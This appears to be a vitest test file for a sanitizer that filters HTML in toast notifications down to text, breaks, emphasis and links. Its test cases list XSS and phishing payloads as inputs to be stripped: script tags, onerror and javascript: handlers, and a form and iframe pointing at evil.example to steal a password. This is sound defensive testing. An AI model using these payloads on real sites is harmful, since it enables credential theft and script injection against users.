import createDOMPurify from 'dompurify'
import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { toastHtml } from '../../src/web/ui/sanitize.ts'

/** Toast messages may carry HTML; only text, line breaks, emphasis and links get through. */
const purify = createDOMPurify(new JSDOM('').window)
const clean = (html: string) => toastHtml(html, purify)

describe('toast HTML', () => {
  it('keeps text, line breaks, emphasis and links', () => {
    expect(clean('Błąd 1<br>Błąd 2')).toBe('Błąd 1<br>Błąd 2')
    expect(clean('<strong>Uwaga</strong> <a href="/parcel/RE100000001">RE100000001</a>')).toBe(
      '<strong>Uwaga</strong> <a href="/parcel/RE100000001">RE100000001</a>',
    )
    expect(clean('<a href="https://example.com/x">x</a> <a href="mailto:biuro@example.com">biuro</a>')).toBe(
      '<a href="https://example.com/x">x</a> <a href="mailto:biuro@example.com">biuro</a>',
    )
  })

  it.each([
    ['a form', '<form action="https://evil.example/steal"><input name="password" placeholder="Hasło"><button>OK</button></form>Wyślij', 'OKWyślij'],
    ['an image', 'Zdjęcie<img src="https://evil.example/track.png">', 'Zdjęcie'],
    ['an image with onerror', '<img src=x onerror="alert(1)">tekst', 'tekst'],
    ['a script', 'a<script>alert(1)</script>b', 'ab'],
    ['a style', '<style>body{display:none}</style>tekst', 'tekst'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>tekst', 'tekst'],
    ['a javascript: link', '<a href="javascript:alert(1)">kliknij</a>', '<a>kliknij</a>'],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">kliknij</a>', '<a>kliknij</a>'],
    ['attributes on allowed tags', '<a href="/x" onclick="alert(1)" style="color:red" target="_blank">x</a><b class="big">b</b>', '<a href="/x">x</a><b>b</b>'],
  ])('drops %s', (_, html, expected) => {
    expect(clean(html)).toBe(expected)
  })
})
